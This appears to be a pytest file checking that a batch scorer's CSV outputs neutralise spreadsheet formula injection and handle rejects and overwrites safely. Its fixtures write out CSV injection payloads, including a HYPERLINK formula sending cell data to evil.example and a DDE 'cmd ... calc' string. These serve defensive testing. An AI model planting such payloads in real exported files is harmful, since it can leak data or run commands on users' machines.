"""Where scored and rejected rows go (batch/outputs.py)."""

import csv
import re

import pandas as pd
import pytest

_FORMULA = re.compile(r"[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _runs_nothing(cell: str) -> bool:
    """A cell a spreadsheet shows as text or reads as a number, never runs."""
    return not _FORMULA.match(cell) or bool(_NUMBER.fullmatch(cell))


def _formula_plans(plans_csv, path):
    df = pd.read_csv(plans_csv, dtype=str, keep_default_na=False)
    df.loc[0, "campaign_id"] = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    df.loc[1, "campaign_id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    df.loc[2, "campaign_id"] = "+1+1"
    df.loc[3, "campaign_id"] = "'quoted already"
    df["notes"] = ""
    df.loc[4, "notes"] = "-2+3"
    df.loc[5, "notes"] = "=1+1"
    df.loc[6, "campaign_id"] = "\t=2+2"  # not printable: rejected, the value in the rejects
    df.loc[7, "marketplace"] = "=3+3"  # not a marketplace: rejected
    df.to_csv(path, index=False)
    return df


@pytest.mark.parametrize("workers", [1, 2])
def test_csv_outputs_never_hold_a_formula(scorer, plans_csv, tmp_path, workers):
    """Formula cells get a quote in the scored CSV and the rejects file; negative numbers
    stay numbers; dropping the quote gives back exactly what was read; Parquet keeps it."""
    from batch import score_file

    def raw_text(cell):  # the documented way back (docs/batch.md)
        return cell[1:] if cell.startswith("'") else cell

    src = tmp_path / "plans.csv"
    plan = _formula_plans(plans_csv, src)
    out = tmp_path / "o.csv"
    summary = score_file(src, out, scorer, workers=workers, chunk_rows=50, progress=False)
    rows = _cells(out)
    assert all(_runs_nothing(c) for row in rows for c in row)
    head, body = rows[0], rows[1:]
    ids = [r[head.index("campaign_id")] for r in body]
    assert ids[:4] == ["'" + plan.loc[i, "campaign_id"] for i in range(4)]
    notes = [r[head.index("notes")] for r in body]
    assert notes[4:6] == ["'-2+3", "'=1+1"]
    delays = [r[head.index("material_delay_days")] for r in body]
    assert any(d.startswith("-") for d in delays)  # early deliveries, still numbers
    assert [float(d) for d in delays if d] == [
        float(d) for d in plan.drop(index=[6, 7])["material_delay_days"] if d]
    back = pd.DataFrame([[raw_text(c) for c in r[:len(plan.columns)]] for r in body],
                        columns=list(plan.columns))
    pd.testing.assert_frame_equal(back, plan.drop(index=[6, 7]).reset_index(drop=True))

    rejects = _cells(summary.rejects_path)
    assert all(_runs_nothing(c) for row in rejects for c in row)
    values = {r[0]: r for r in rejects[1:]}
    assert values["7"][1] == "'\t=2+2"
    assert values["8"][3] == "'=3+3"

    score_file(src, tmp_path / "o.parquet", scorer, workers=workers, chunk_rows=50,
               progress=False)
    raw = pd.read_parquet(tmp_path / "o.parquet")
    assert raw["campaign_id"].tolist()[:4] == plan["campaign_id"].tolist()[:4]
    assert raw["notes"].tolist()[4:6] == ["-2+3", "=1+1"]


def test_a_header_only_output_has_safe_names(scorer, plans_csv, tmp_path):
    from batch import score_file

    df = pd.read_csv(plans_csv, dtype=str, keep_default_na=False).head(3)
    df["=cmd"] = "x"
    df["marketplace"] = "Atlantis"  # every row rejected: the output is only a header
    src = tmp_path / "plans.csv"
    df.to_csv(src, index=False)
    score_file(src, tmp_path / "o.csv", scorer, workers=1, progress=False)
    [head] = _cells(tmp_path / "o.csv")
    assert "'=cmd" in head and "=cmd" not in head


def test_score_file_refuses_its_rejects_over_its_output(scorer, plans_csv, tmp_path):
    from batch import score_file

    out = tmp_path / "o.csv"
    out.write_text("kept\n")
    with pytest.raises(ValueError, match="the rejects file .* is the same file as the "
                                         "output"):
        score_file(plans_csv, out, scorer, rejects=tmp_path / "." / "o.csv", progress=False)
    assert [p.name for p in tmp_path.iterdir()] == ["o.csv"]
    assert out.read_text() == "kept\n"


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_output_over_a_longer_file_leaves_none_of_it(tmp_path, kind):
    """The output is opened without truncation only when it is empty (the temporary file
    the engines create): a longer file there is still overwritten from its start."""
    import pyarrow as pa
    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    from batch.outputs import Output

    table = pa.table({"campaign_id": ["C1", "C2"], "failure_risk": [0.25, 0.5]})
    expected = tmp_path / f"expected.{kind}"
    if kind == "csv":
        pacsv.write_csv(table, expected)
    else:
        pq.write_table(table, expected)
    for before in (b"", b"x" * 100_000):
        path = tmp_path / f"out.{kind}"
        path.write_bytes(before)
        out = Output(str(path), kind)
        out.write(table)
        out.close()
        if kind == "csv":
            assert path.read_bytes() == expected.read_bytes()
        else:
            assert pq.read_table(path).equals(table)
